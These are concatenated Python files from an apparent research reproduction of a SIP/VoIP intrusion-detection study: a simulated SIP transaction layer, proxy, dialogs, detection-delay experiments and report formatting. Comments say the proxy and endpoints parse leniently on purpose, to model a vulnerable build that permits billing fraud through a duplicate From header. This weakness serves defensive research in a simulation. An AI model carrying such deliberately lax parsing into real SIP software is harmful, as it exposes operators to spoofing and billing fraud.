    return "\n\n".join(lines)
