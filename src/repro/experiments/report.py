"""Plain-text table formatting for benchmark output.

The benchmarks print the same rows the paper's tables/figures report;
this module keeps the formatting consistent and dependency-free.  It
also renders the observability layer's per-stage latency summary
(``repro stats``, ``bench_observability_overhead``).
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any, Sequence

if TYPE_CHECKING:  # pragma: no cover - import cycle guard for typing only
    from repro.obs.tracing import StageStats


def format_table(headers: Sequence[str], rows: Sequence[Sequence[Any]], title: str | None = None) -> str:
    """Render an aligned ASCII table."""
    cells = [[_fmt(c) for c in row] for row in rows]
    widths = [len(h) for h in headers]
    for row in cells:
        for i, cell in enumerate(row):
            if i < len(widths):
                widths[i] = max(widths[i], len(cell))
    sep = "-+-".join("-" * w for w in widths)
    lines = []
    if title:
        lines.append(title)
        lines.append("=" * len(sep))
    lines.append(" | ".join(h.ljust(w) for h, w in zip(headers, widths)))
    lines.append(sep)
    for row in cells:
        lines.append(" | ".join(c.ljust(w) for c, w in zip(row, widths)))
    return "\n".join(lines)


def _fmt(value: Any) -> str:
    if value is None:
        return "-"
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, float):
        return f"{value:.4g}"
    return str(value)


def print_table(headers: Sequence[str], rows: Sequence[Sequence[Any]], title: str | None = None) -> None:
    print()
    print(format_table(headers, rows, title))
    print()


STAGE_SUMMARY_HEADERS = (
    "stage", "spans", "total (ms)", "mean (µs)", "p50 (µs)", "p95 (µs)", "max (µs)"
)


def format_stage_summary(stages: "Sequence[StageStats]",
                         title: str | None = "Per-stage latency") -> str:
    """Render a tracer's :meth:`~repro.obs.tracing.Tracer.stage_summary`."""
    if not stages:
        return "no spans recorded (tracing disabled?)"
    rows = [
        [
            s.stage,
            s.count,
            f"{s.total * 1e3:.3f}",
            f"{s.mean * 1e6:.2f}",
            f"{s.p50 * 1e6:.2f}",
            f"{s.p95 * 1e6:.2f}",
            f"{s.max * 1e6:.2f}",
        ]
        for s in stages
    ]
    return format_table(STAGE_SUMMARY_HEADERS, rows, title=title)
