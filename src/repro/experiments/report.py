"""Plain-text table formatting for benchmark output.

The benchmarks print the same rows the paper's tables/figures report;
this module keeps the formatting consistent and dependency-free.
"""

from __future__ import annotations

from typing import Any, Sequence


def format_table(headers: Sequence[str], rows: Sequence[Sequence[Any]], title: str | None = None) -> str:
    """Render an aligned ASCII table."""
    cells = [[_fmt(c) for c in row] for row in rows]
    widths = [len(h) for h in headers]
    for row in cells:
        for i, cell in enumerate(row):
            if i < len(widths):
                widths[i] = max(widths[i], len(cell))
    sep = "-+-".join("-" * w for w in widths)
    lines = []
    if title:
        lines.append(title)
        lines.append("=" * len(sep))
    lines.append(" | ".join(h.ljust(w) for h, w in zip(headers, widths)))
    lines.append(sep)
    for row in cells:
        lines.append(" | ".join(c.ljust(w) for c, w in zip(row, widths)))
    return "\n".join(lines)


def _fmt(value: Any) -> str:
    if value is None:
        return "-"
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, float):
        return f"{value:.4g}"
    return str(value)


def print_table(headers: Sequence[str], rows: Sequence[Sequence[Any]], title: str | None = None) -> None:
    print()
    print(format_table(headers, rows, title))
    print()
