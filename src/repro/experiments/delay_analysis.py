"""§4.3 sweeps: detection delay, missed alarm and false alarm curves.

Three layers are compared for each quantity:

1. **analytic** — scipy quadrature over the delay distributions
   (:mod:`repro.core.analysis`);
2. **model Monte-Carlo** — sampling the same closed-form model;
3. **full simulation** — running the actual testbed + attack + IDS over
   links whose delay follows the same distributions.

Agreement of (1) and (2) validates the math; agreement with (3)
validates that the *system* implements the model.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.core import analysis
from repro.core.rules_library import RULE_BYE_ATTACK
from repro.experiments.harness import run_benign, run_bye_attack
from repro.sim.distributions import Distribution, Exponential, Uniform
from repro.sim.link import LinkModel


@dataclass(slots=True)
class DelayComparison:
    label: str
    analytic_ms: float
    model_mc_ms: float
    simulated_ms: float | None
    trials: int


def paper_model(mean_delay: float = 0.002) -> tuple[Distribution, Distribution, Distribution]:
    """(N_rtp, G_sip, N_sip) under the paper's simplest assumptions."""
    return (
        Exponential(scale=mean_delay),
        Uniform(0.0, analysis.RTP_PERIOD),
        Exponential(scale=mean_delay),
    )


def simulated_bye_delays(
    trials: int,
    mean_delay: float = 0.002,
    monitoring_window: float = 0.5,
    seed0: int = 100,
) -> list[float]:
    """Detection delays from full testbed runs over jittery links."""
    delays: list[float] = []
    for i in range(trials):
        link = LinkModel(delay=Exponential(scale=mean_delay))
        result = run_bye_attack(
            seed=seed0 + i,
            monitoring_window=monitoring_window,
            link=link,
            # Vary the attack phase relative to the RTP cadence so the
            # G_sip ~ Uniform(0, 20 ms) assumption is exercised: each run
            # talks a slightly different time before injection.
            talk_before=1.5 + (i % 20) * 0.001,
        )
        delay = result.detection_delay(RULE_BYE_ATTACK)
        if delay is not None:
            delays.append(delay)
    return delays


def compare_detection_delay(
    trials: int = 30, mean_delay: float = 0.002, mc_samples: int = 50_000
) -> DelayComparison:
    n_rtp, g_sip, n_sip = paper_model(mean_delay)
    analytic = analysis.expected_detection_delay(n_rtp, g_sip, n_sip)
    samples = analysis.detection_delay_samples(n_rtp, g_sip, n_sip, mc_samples, seed=1)
    model_mc = sum(samples) / len(samples)
    simulated = simulated_bye_delays(trials, mean_delay)
    sim_mean = sum(simulated) / len(simulated) if simulated else None
    return DelayComparison(
        label=f"E[D], exp delays mean={mean_delay * 1000:.1f}ms",
        analytic_ms=analytic * 1000,
        model_mc_ms=model_mc * 1000,
        simulated_ms=sim_mean * 1000 if sim_mean is not None else None,
        trials=len(simulated),
    )


@dataclass(slots=True)
class MissedAlarmPoint:
    m_ms: float
    analytic: float
    model_mc: float
    simulated: float | None


def missed_alarm_curve(
    windows_ms: list[float],
    mean_delay: float = 0.002,
    sim_trials: int = 0,
    seed0: int = 300,
) -> list[MissedAlarmPoint]:
    """P_m as a function of the monitoring window m."""
    n_rtp, g_sip, n_sip = paper_model(mean_delay)
    points: list[MissedAlarmPoint] = []
    for m_ms in windows_ms:
        m = m_ms / 1000.0
        analytic = analysis.missed_alarm_probability(n_rtp, g_sip, n_sip, m)
        model_mc = analysis.missed_alarm_probability_mc(n_rtp, g_sip, n_sip, m, seed=int(m_ms))
        simulated = None
        if sim_trials:
            missed = 0
            for i in range(sim_trials):
                link = LinkModel(delay=Exponential(scale=mean_delay))
                result = run_bye_attack(
                    seed=seed0 + i,
                    monitoring_window=m,
                    link=link,
                    talk_before=1.5 + (i % 20) * 0.001,
                    observe_after=max(0.5, 3 * m),
                )
                if result.detection_delay(RULE_BYE_ATTACK) is None:
                    missed += 1
            simulated = missed / sim_trials
        points.append(MissedAlarmPoint(m_ms, analytic, model_mc, simulated))
    return points


@dataclass(slots=True)
class FalseAlarmPoint:
    label: str
    analytic: float
    model_mc: float
    simulated: float | None


def false_alarm_comparison(
    mean_delay: float = 0.002,
    m: float = 0.5,
    sim_trials: int = 0,
    seed0: int = 600,
) -> FalseAlarmPoint:
    """P_f for the BYE race under i.i.d. exponential delays.

    The analytic value for identical independent distributions is 1/2
    (the paper's integral); the simulation measures how often a benign
    callee hang-up raises the orphan-RTP alarm on jittery links.
    """
    n_rtp, g_sip, n_sip = paper_model(mean_delay)
    analytic = analysis.false_alarm_probability(n_rtp, n_sip, m)
    model_mc = analysis.false_alarm_probability_mc(n_rtp, n_sip, m, seed=3)
    simulated = None
    if sim_trials:
        false_alarms = 0
        for i in range(sim_trials):
            link = LinkModel(delay=Exponential(scale=mean_delay))
            result = run_benign(
                "callee-hangup", seed=seed0 + i, monitoring_window=m, link=link
            )
            if result.alerts_for(RULE_BYE_ATTACK):
                false_alarms += 1
        simulated = false_alarms / sim_trials
    return FalseAlarmPoint(
        label=f"P_f, iid exp mean={mean_delay * 1000:.1f}ms, m={m * 1000:.0f}ms",
        analytic=analytic,
        model_mc=model_mc,
        simulated=simulated,
    )
