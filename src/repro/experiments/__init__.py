"""Experiment harness: canned scenario runs, workload capture, Table 1
matrix construction, §4.3 analytic-vs-simulated sweeps, and table
formatting for benchmark output."""

from repro.experiments.harness import (
    BENIGN_KINDS,
    ExperimentResult,
    run_benign,
    run_billing_fraud,
    run_bye_attack,
    run_call_hijack,
    run_fake_im,
    run_password_guess,
    run_register_dos,
    run_rtcp_bye_attack,
    run_rtp_attack,
    run_ssrc_spoof,
)
from repro.experiments.report import format_table, print_table
from repro.experiments.table1 import TABLE1_HEADERS, Table1Row, build_table1
from repro.experiments.workloads import WorkloadSpec, capture_attack_workload, capture_workload

__all__ = [
    "BENIGN_KINDS",
    "ExperimentResult",
    "TABLE1_HEADERS",
    "Table1Row",
    "WorkloadSpec",
    "build_table1",
    "capture_attack_workload",
    "capture_workload",
    "format_table",
    "print_table",
    "run_benign",
    "run_billing_fraud",
    "run_bye_attack",
    "run_call_hijack",
    "run_fake_im",
    "run_password_guess",
    "run_register_dos",
    "run_rtcp_bye_attack",
    "run_ssrc_spoof",
    "run_rtp_attack",
]
