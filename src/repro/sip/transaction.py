"""SIP transport and transaction layer (RFC 3261 §17, UDP flavour).

:class:`SipTransport` frames SIP messages over a UDP socket and hands
them to the :class:`TransactionLayer`, which implements the four RFC
state machines with the UDP (unreliable-transport) timer set:

* client non-INVITE — Trying → Proceeding → Completed, timer E
  retransmits (T1 doubling, capped at T2), timer F timeout at 64·T1;
* client INVITE — Calling → Proceeding → Completed, timer A retransmits,
  timer B timeout, ACK generated for non-2xx finals;
* server non-INVITE — retransmission absorption + final-response replay;
* server INVITE — response retransmission (timer G) until ACK.

Timer values are scaled-down by default (T1 = 50 ms) so simulations of
many calls stay fast; pass ``t1=0.5`` for RFC-faithful timing.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable

from repro.net.addr import Endpoint
from repro.net.stack import HostStack, UdpSocket
from repro.sim.eventloop import EventHandle, EventLoop
from repro.sip.constants import METHOD_ACK, METHOD_INVITE
from repro.sip.headers import Via
from repro.sip.message import SipParseError, SipRequest, SipResponse, parse_message

RequestHandler = Callable[[SipRequest, Endpoint, float], None]
ResponseHandler = Callable[[SipResponse, float], None]
TimeoutHandler = Callable[[], None]


class SipTransport:
    """UDP framing for SIP: parse in, serialise out, count garbage."""

    def __init__(self, stack: HostStack, port: int = 5060) -> None:
        self.stack = stack
        self.port = port
        self.socket: UdpSocket = stack.bind(port, self._on_datagram)
        self._receivers: list[Callable[[SipRequest | SipResponse, Endpoint, float], None]] = []
        self.parse_errors = 0
        self.messages_in = 0
        self.messages_out = 0

    def subscribe(self, handler: Callable[[SipRequest | SipResponse, Endpoint, float], None]) -> None:
        self._receivers.append(handler)

    def send(self, message: SipRequest | SipResponse, dst: Endpoint) -> None:
        self.messages_out += 1
        self.socket.send_to(dst, message.encode())

    def _on_datagram(self, payload: bytes, src: Endpoint, now: float) -> None:
        try:
            # Endpoints parse leniently, like the commercial soft-phones in
            # the paper's testbed; only the IDS applies strict grammar.
            # This parser differential is what the billing-fraud exploit
            # (duplicate From header) rides on.
            message = parse_message(payload, strict=False)
        except SipParseError:
            self.parse_errors += 1
            return
        self.messages_in += 1
        for handler in self._receivers:
            handler(message, src, now)

    @property
    def local_endpoint(self) -> Endpoint:
        return Endpoint(self.stack.ip, self.port)


@dataclass(slots=True)
class _Timers:
    t1: float
    t2: float

    @property
    def timeout(self) -> float:  # timer B / F
        return 64.0 * self.t1


class ClientTransaction:
    """One outstanding client transaction."""

    def __init__(
        self,
        layer: "TransactionLayer",
        request: SipRequest,
        dst: Endpoint,
        on_response: ResponseHandler,
        on_timeout: TimeoutHandler | None,
    ) -> None:
        self.layer = layer
        self.request = request
        self.dst = dst
        self.on_response = on_response
        self.on_timeout = on_timeout
        self.branch = request.top_via.branch or ""
        self.method = request.method
        self.state = "calling" if request.method == METHOD_INVITE else "trying"
        self._retransmit_interval = layer.timers.t1
        self._retransmit_handle: EventHandle | None = None
        self._timeout_handle: EventHandle | None = None
        self.retransmissions = 0

    def start(self) -> None:
        self.layer.transport.send(self.request, self.dst)
        self._retransmit_handle = self.layer.loop.call_later(
            self._retransmit_interval, self._retransmit
        )
        self._timeout_handle = self.layer.loop.call_later(
            self.layer.timers.timeout, self._timed_out
        )

    def _retransmit(self) -> None:
        if self.state not in ("calling", "trying"):
            return
        self.retransmissions += 1
        self.layer.transport.send(self.request, self.dst)
        if self.method == METHOD_INVITE:
            self._retransmit_interval *= 2  # timer A doubles unboundedly
        else:
            self._retransmit_interval = min(self._retransmit_interval * 2, self.layer.timers.t2)
        self._retransmit_handle = self.layer.loop.call_later(
            self._retransmit_interval, self._retransmit
        )

    def _timed_out(self) -> None:
        if self.state in ("completed", "terminated"):
            return
        self.state = "terminated"
        self._cancel_timers()
        self.layer._remove_client(self)
        if self.on_timeout is not None:
            self.on_timeout()

    def handle_response(self, response: SipResponse, now: float) -> None:
        if self.state == "terminated":
            return
        if response.status_class == 1:
            self.state = "proceeding"
            if self._retransmit_handle is not None:
                self._retransmit_handle.cancel()
            self.on_response(response, now)
            return
        # Final response.
        first_final = self.state != "completed"
        self.state = "completed"
        self._cancel_timers()
        if self.method == METHOD_INVITE and response.status_class >= 3:
            self._send_ack(response)
        if first_final:
            self.on_response(response, now)
            # Linger to absorb (and, for 2xx INVITE, re-answer)
            # retransmitted finals, then die.
            self.layer.loop.call_later(
                self.layer.timers.timeout, lambda: self.layer._remove_client(self)
            )
        elif self.method == METHOD_INVITE and response.status_class == 2:
            # Retransmitted 2xx means our ACK was lost: the TU must
            # re-ACK (RFC 3261 §13.2.2.4); completion is idempotent there.
            self.on_response(response, now)

    def _send_ack(self, response: SipResponse) -> None:
        """ACK for a non-2xx final: same branch, same transaction (17.1.1.3)."""
        ack = SipRequest(method=METHOD_ACK, uri=self.request.uri)
        ack.headers.add("Via", str(self.request.top_via))
        ack.headers.add("From", self.request.headers.get("From") or "")
        ack.headers.add("To", response.headers.get("To") or self.request.headers.get("To") or "")
        ack.headers.add("Call-ID", self.request.call_id)
        ack.headers.add("CSeq", f"{self.request.cseq.number} ACK")
        ack.headers.add("Max-Forwards", "70")
        ack.headers.set("Content-Length", "0")
        self.layer.transport.send(ack, self.dst)

    def _cancel_timers(self) -> None:
        if self._retransmit_handle is not None:
            self._retransmit_handle.cancel()
        if self._timeout_handle is not None:
            self._timeout_handle.cancel()


class ServerTransaction:
    """One server transaction: absorbs retransmits, replays the final.

    For INVITE, the final response is retransmitted on a doubling timer
    until an ACK arrives (RFC 3261 timer G, and the UAS-core equivalent
    for 2xx) — without this, one lost 200 OK on a lossy link kills the
    call setup.
    """

    def __init__(self, layer: "TransactionLayer", request: SipRequest, src: Endpoint) -> None:
        self.layer = layer
        self.request = request
        self.src = src
        self.branch = request.top_via.branch or ""
        self.method = request.method
        self.state = "proceeding"
        self.last_response: SipResponse | None = None
        self.requests_absorbed = 0
        self.final_retransmissions = 0
        self._retransmit_handle: EventHandle | None = None
        self._retransmit_interval = 0.0

    def key(self) -> tuple[str, str]:
        return (self.branch, self.method)

    def respond(self, response: SipResponse) -> None:
        self.last_response = response
        self.layer.transport.send(response, self.src)
        if response.status_class >= 2 and self.state == "proceeding":
            self.state = "completed"
            if self.method == METHOD_INVITE:
                # Retransmit the final until ACKed, then give up at 64·T1.
                self._retransmit_interval = self.layer.timers.t1
                self._retransmit_handle = self.layer.loop.call_later(
                    self._retransmit_interval, self._retransmit_final
                )
                self.layer.loop.call_later(
                    self.layer.timers.timeout, lambda: self._give_up()
                )
            else:
                # Non-INVITE: linger to absorb request retransmissions.
                self.layer.loop.call_later(
                    self.layer.timers.timeout, lambda: self.layer._remove_server(self)
                )

    def _retransmit_final(self) -> None:
        if self.state != "completed" or self.last_response is None:
            return
        self.final_retransmissions += 1
        self.layer.transport.send(self.last_response, self.src)
        self._retransmit_interval = min(self._retransmit_interval * 2, self.layer.timers.t2)
        self._retransmit_handle = self.layer.loop.call_later(
            self._retransmit_interval, self._retransmit_final
        )

    def _give_up(self) -> None:
        if self.state == "completed":
            self.state = "terminated"
            if self._retransmit_handle is not None:
                self._retransmit_handle.cancel()
            self.layer._remove_server(self)

    def handle_retransmission(self) -> None:
        self.requests_absorbed += 1
        if self.last_response is not None:
            self.layer.transport.send(self.last_response, self.src)

    def handle_ack(self) -> None:
        if self.method == METHOD_INVITE and self.state == "completed":
            self.state = "confirmed"
            if self._retransmit_handle is not None:
                self._retransmit_handle.cancel()
            self.layer._remove_server(self)


class TransactionLayer:
    """Demultiplexes messages to transactions; creates new ones on demand."""

    def __init__(
        self,
        transport: SipTransport,
        loop: EventLoop,
        t1: float = 0.05,
        t2: float = 0.4,
    ) -> None:
        self.transport = transport
        self.loop = loop
        self.timers = _Timers(t1=t1, t2=t2)
        self._clients: dict[tuple[str, str], ClientTransaction] = {}
        self._servers: dict[tuple[str, str], ServerTransaction] = {}
        self.on_request: RequestHandler | None = None
        self._branch_counter = 0
        transport.subscribe(self._on_message)

    # -- client side ------------------------------------------------------

    def new_branch(self) -> str:
        from repro.sip.constants import BRANCH_MAGIC_COOKIE

        self._branch_counter += 1
        return f"{BRANCH_MAGIC_COOKIE}-{self.transport.stack.name}-{self._branch_counter}"

    def send_request(
        self,
        request: SipRequest,
        dst: Endpoint,
        on_response: ResponseHandler,
        on_timeout: TimeoutHandler | None = None,
    ) -> ClientTransaction:
        """Send ``request`` inside a new client transaction.

        The request must already carry its Via (with branch); use
        :meth:`new_branch` when constructing it.  ACK to 2xx is not a
        transaction and must be sent via :meth:`send_stateless`.
        """
        txn = ClientTransaction(self, request, dst, on_response, on_timeout)
        key = (txn.branch, txn.method)
        self._clients[key] = txn
        txn.start()
        return txn

    def send_stateless(self, message: SipRequest | SipResponse, dst: Endpoint) -> None:
        self.transport.send(message, dst)

    # -- dispatch ----------------------------------------------------------

    def _on_message(self, message: SipRequest | SipResponse, src: Endpoint, now: float) -> None:
        if isinstance(message, SipResponse):
            self._dispatch_response(message, now)
        else:
            self._dispatch_request(message, src, now)

    def _dispatch_response(self, response: SipResponse, now: float) -> None:
        try:
            branch = response.top_via.branch or ""
            method = response.cseq.method
        except Exception:
            return  # undecodable response: drop (transport counted it)
        txn = self._clients.get((branch, method))
        if txn is not None:
            txn.handle_response(response, now)
        # Responses with no matching transaction are dropped, per RFC.

    def _dispatch_request(self, request: SipRequest, src: Endpoint, now: float) -> None:
        try:
            branch = request.top_via.branch or ""
        except Exception:
            return
        if request.method == METHOD_ACK:
            txn = self._servers.get((branch, METHOD_INVITE))
            if txn is not None:
                txn.handle_ack()
                return
            # ACK to 2xx: passes to the TU (dialog layer).
            if self.on_request is not None:
                self.on_request(request, src, now)
            return
        key = (branch, request.method)
        existing = self._servers.get(key)
        if existing is not None:
            existing.handle_retransmission()
            return
        txn = ServerTransaction(self, request, src)
        self._servers[key] = txn
        if self.on_request is not None:
            self.on_request(request, src, now)

    def server_transaction_for(self, request: SipRequest) -> ServerTransaction | None:
        return self._servers.get((request.top_via.branch or "", request.method))

    # -- bookkeeping ---------------------------------------------------------

    def _remove_client(self, txn: ClientTransaction) -> None:
        self._clients.pop((txn.branch, txn.method), None)

    def _remove_server(self, txn: ServerTransaction) -> None:
        self._servers.pop(txn.key(), None)

    @property
    def active_transactions(self) -> int:
        return len(self._clients) + len(self._servers)
