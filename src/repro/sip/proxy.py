"""SIP proxy: the routing core of the testbed (SIP Express Router stand-in).

A stateless forwarding proxy combined with a :class:`Registrar`:

* REGISTER is consumed locally (binding table + optional digest auth);
* other out-of-dialog requests for the proxy's domain are retargeted to
  the registered contact of the request-URI's AoR and forwarded with the
  proxy's Via pushed on top;
* responses pop the proxy Via and follow the next one down.

In-dialog requests in this testbed flow directly between the clients'
Contact addresses, matching the paper's attack figures where the forged
BYE/REINVITE arrives at the victim without touching the proxy.
"""

from __future__ import annotations

import itertools

from repro.net.addr import Endpoint, IPv4Address
from repro.net.stack import HostStack
from repro.sim.eventloop import EventLoop
from repro.sip.constants import (
    BRANCH_MAGIC_COOKIE,
    DEFAULT_SIP_PORT,
    METHOD_REGISTER,
    STATUS_NOT_FOUND,
    reason_phrase,
)
from repro.sip.headers import HeaderError, NameAddr, Via
from repro.sip.message import SipParseError, SipRequest, SipResponse, parse_message
from repro.sip.registrar import Registrar
from repro.sip.uri import SipUri, UriError


class Proxy:
    """Stateless SIP proxy + registrar for one domain."""

    def __init__(
        self,
        stack: HostStack,
        loop: EventLoop,
        domain: str,
        registrar: Registrar | None = None,
        port: int = DEFAULT_SIP_PORT,
        billing=None,  # accounting.billing.BillingAgent, optional
        strict_parsing: bool = True,
    ) -> None:
        self.stack = stack
        self.loop = loop
        self.domain = domain.lower()
        self.port = port
        self.registrar = registrar if registrar is not None else Registrar(realm=domain)
        self.billing = billing
        # A billing-enabled proxy models the paper's vulnerable SER build,
        # which tolerates malformed messages a strict parser rejects.
        self.strict_parsing = strict_parsing
        self.socket = stack.bind(port, self._on_datagram)
        self._branch_counter = itertools.count(1)
        self.requests_forwarded = 0
        self.responses_forwarded = 0
        self.requests_rejected = 0
        self.parse_errors = 0

    # -- datagram entry ----------------------------------------------------

    def _on_datagram(self, payload: bytes, src: Endpoint, now: float) -> None:
        try:
            message = parse_message(payload, strict=self.strict_parsing)
        except SipParseError:
            self.parse_errors += 1
            return
        if isinstance(message, SipRequest):
            self._handle_request(message, src, now)
        else:
            self._handle_response(message)

    # -- requests --------------------------------------------------------------

    def _handle_request(self, request: SipRequest, src: Endpoint, now: float) -> None:
        if request.method == METHOD_REGISTER:
            self._handle_register(request, src, now)
            return
        # Loop protection.
        max_forwards = request.headers.get("Max-Forwards", "70")
        hops = int(max_forwards) if max_forwards and max_forwards.isdigit() else 70
        if hops <= 0:
            self._reject(request, src, 483)
            return
        target = self._route(request, now)
        if target is None:
            self._reject(request, src, STATUS_NOT_FOUND)
            return
        if self.billing is not None:
            if request.method == "INVITE":
                try:
                    has_to_tag = request.to_addr.tag is not None
                except Exception:
                    has_to_tag = False
                if not has_to_tag:
                    self.billing.on_invite(request, now)
            elif request.method == "BYE":
                self.billing.on_bye(request, now)
        forwarded = self._clone_request(request)
        forwarded.headers.set("Max-Forwards", str(hops - 1))
        via = Via(
            transport="UDP",
            host=str(self.stack.ip),
            port=self.port,
            params=(("branch", f"{BRANCH_MAGIC_COOKIE}-pxy-{next(self._branch_counter)}"),),
        )
        forwarded.headers.insert_first("Via", str(via))
        self.requests_forwarded += 1
        self.socket.send_to(target, forwarded.encode())

    def _route(self, request: SipRequest, now: float) -> Endpoint | None:
        """Pick the next hop for an out-of-dialog request."""
        uri = request.uri
        if uri.host == self.domain or uri.host == str(self.stack.ip):
            contact = self.registrar.lookup(uri.address_of_record, now)
            if contact is None:
                # Fall back to the To header AoR (retargeted requests).
                try:
                    contact = self.registrar.lookup(request.to_addr.uri.address_of_record, now)
                except HeaderError:
                    contact = None
            if contact is None:
                return None
            uri = contact
        try:
            return Endpoint(IPv4Address.parse(uri.host), uri.port or DEFAULT_SIP_PORT)
        except ValueError:
            return None

    def _clone_request(self, request: SipRequest) -> SipRequest:
        clone = SipRequest(method=request.method, uri=request.uri)
        clone.headers = request.headers.copy()
        clone.body = request.body
        return clone

    def _handle_register(self, request: SipRequest, src: Endpoint, now: float) -> None:
        outcome = self.registrar.process(request, now)
        response = self._response_for(request, outcome.status)
        if outcome.challenge is not None:
            response.headers.add("WWW-Authenticate", outcome.challenge.encode())
        if outcome.status != 200:
            self.requests_rejected += 1
        self.socket.send_to(src, response.encode())

    def _reject(self, request: SipRequest, src: Endpoint, status: int) -> None:
        self.requests_rejected += 1
        self.socket.send_to(src, self._response_for(request, status).encode())

    def _response_for(self, request: SipRequest, status: int) -> SipResponse:
        response = SipResponse(status=status, reason=reason_phrase(status))
        for via in request.headers.get_all("Via"):
            response.headers.add("Via", via)
        response.headers.add("From", request.headers.get("From") or "")
        to_value = request.headers.get("To") or ""
        response.headers.add("To", to_value)
        response.headers.add("Call-ID", request.headers.get("Call-ID") or "")
        response.headers.add("CSeq", request.headers.get("CSeq") or "")
        response.headers.set("Content-Length", "0")
        return response

    # -- responses ----------------------------------------------------------------

    def _handle_response(self, response: SipResponse) -> None:
        vias = response.headers.get_all("Via")
        if not vias:
            return
        try:
            top = Via.parse(vias[0])
        except HeaderError:
            return
        if top.host != str(self.stack.ip):
            return  # not ours; a stateless proxy drops strays
        response.headers.remove_first("Via")
        remaining = response.headers.get_all("Via")
        if not remaining:
            return
        try:
            next_via = Via.parse(remaining[0])
            target = Endpoint(
                IPv4Address.parse(next_via.host), next_via.port or DEFAULT_SIP_PORT
            )
        except (HeaderError, ValueError):
            return
        self.responses_forwarded += 1
        self.socket.send_to(target, response.encode())
