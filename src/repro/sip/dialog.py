"""SIP dialogs (RFC 3261 §12) from the user agent's point of view.

A dialog is the long-lived peer-to-peer SIP relationship created by a
successful INVITE: it carries the tags, CSeq counters and remote target
needed to route in-dialog requests (BYE, re-INVITE).  The BYE and Call
Hijack attacks work because a UA honours any in-dialog request whose
identifiers match, regardless of where the packet really came from —
the dialog layer deliberately reproduces that (standard) behaviour.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field

from repro.net.addr import Endpoint
from repro.sip.headers import NameAddr
from repro.sip.message import SipRequest, SipResponse
from repro.sip.uri import SipUri


class DialogState(enum.Enum):
    EARLY = "early"
    CONFIRMED = "confirmed"
    TERMINATED = "terminated"


DialogKey = tuple[str, str, str]  # (call-id, local-tag, remote-tag)


@dataclass(slots=True)
class Dialog:
    """One end's view of a SIP dialog."""

    call_id: str
    local_tag: str
    remote_tag: str
    local_uri: SipUri
    remote_uri: SipUri
    remote_target: SipUri  # from the peer's Contact
    is_uac: bool  # whether we initiated the dialog
    state: DialogState = DialogState.EARLY
    local_seq: int = 0
    remote_seq: int = 0
    local_media: Endpoint | None = None
    remote_media: Endpoint | None = None
    route_set: tuple[str, ...] = field(default=())

    @property
    def key(self) -> DialogKey:
        return (self.call_id, self.local_tag, self.remote_tag)

    def confirm(self) -> None:
        self.state = DialogState.CONFIRMED

    def terminate(self) -> None:
        self.state = DialogState.TERMINATED

    def next_local_seq(self) -> int:
        self.local_seq += 1
        return self.local_seq

    def accepts_remote_seq(self, number: int) -> bool:
        """RFC 3261 §12.2.2: in-dialog requests must advance the CSeq."""
        if number <= self.remote_seq:
            return False
        self.remote_seq = number
        return True

    def matches_request(self, request: SipRequest) -> bool:
        """Does an incoming in-dialog request belong to this dialog?

        For a request arriving at us, the *remote* party is in From and
        we are in To, so the From tag must equal our remote tag.
        """
        try:
            return (
                request.call_id == self.call_id
                and (request.from_addr.tag or "") == self.remote_tag
                and (request.to_addr.tag or "") == self.local_tag
            )
        except Exception:
            return False

    def local_addr(self) -> NameAddr:
        return NameAddr(uri=self.local_uri).with_tag(self.local_tag)

    def remote_addr(self) -> NameAddr:
        return NameAddr(uri=self.remote_uri).with_tag(self.remote_tag)


class DialogStore:
    """All dialogs owned by one user agent."""

    def __init__(self) -> None:
        self._dialogs: dict[DialogKey, Dialog] = {}

    def add(self, dialog: Dialog) -> None:
        self._dialogs[dialog.key] = dialog

    def remove(self, dialog: Dialog) -> None:
        self._dialogs.pop(dialog.key, None)

    def find_for_request(self, request: SipRequest) -> Dialog | None:
        """Match an incoming request to a dialog by Call-ID + tags."""
        try:
            key = (
                request.call_id,
                request.to_addr.tag or "",
                request.from_addr.tag or "",
            )
        except Exception:
            return None
        return self._dialogs.get(key)

    def find_for_response(self, response: SipResponse) -> Dialog | None:
        """Match a response to the dialog we created as UAC."""
        try:
            key = (
                response.call_id,
                response.from_addr.tag or "",
                response.to_addr.tag or "",
            )
        except Exception:
            return None
        return self._dialogs.get(key)

    def by_call_id(self, call_id: str) -> list[Dialog]:
        return [d for d in self._dialogs.values() if d.call_id == call_id]

    def active(self) -> list[Dialog]:
        return [d for d in self._dialogs.values() if d.state != DialogState.TERMINATED]

    def __len__(self) -> int:
        return len(self._dialogs)

    def __iter__(self):
        return iter(list(self._dialogs.values()))
