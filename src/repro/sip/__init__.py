"""A from-scratch SIP stack (RFC 3261 subset + MESSAGE/RFC 3428).

Layers: URI/headers/message codecs, SDP bodies, digest authentication,
UDP transport + transaction state machines, dialogs, a full user agent,
and the proxy/registrar pair standing in for SIP Express Router.
"""

from repro.sip.auth import (
    DigestChallenge,
    DigestCredentials,
    answer_challenge,
    compute_response,
    verify_credentials,
)
from repro.sip.constants import DEFAULT_SIP_PORT, SIP_VERSION, reason_phrase
from repro.sip.dialog import Dialog, DialogState, DialogStore
from repro.sip.headers import CSeq, HeaderError, HeaderTable, NameAddr, Via
from repro.sip.message import (
    SipMessage,
    SipParseError,
    SipRequest,
    SipResponse,
    looks_like_sip,
    parse_message,
)
from repro.sip.proxy import Proxy
from repro.sip.registrar import Binding, Registrar
from repro.sip.sdp import MediaDescription, SdpError, SessionDescription, audio_offer
from repro.sip.transaction import SipTransport, TransactionLayer
from repro.sip.ua import UaConfig, UserAgent, resolve_uri
from repro.sip.uri import SipUri, UriError

__all__ = [
    "Binding",
    "CSeq",
    "DEFAULT_SIP_PORT",
    "Dialog",
    "DialogState",
    "DialogStore",
    "DigestChallenge",
    "DigestCredentials",
    "HeaderError",
    "HeaderTable",
    "MediaDescription",
    "NameAddr",
    "Proxy",
    "Registrar",
    "SIP_VERSION",
    "SdpError",
    "SessionDescription",
    "SipMessage",
    "SipParseError",
    "SipRequest",
    "SipResponse",
    "SipTransport",
    "SipUri",
    "TransactionLayer",
    "UaConfig",
    "UriError",
    "UserAgent",
    "Via",
    "answer_challenge",
    "audio_offer",
    "compute_response",
    "looks_like_sip",
    "parse_message",
    "reason_phrase",
    "resolve_uri",
    "verify_credentials",
]
