"""SDP (RFC 4566) — the session descriptions carried in INVITE/200 bodies.

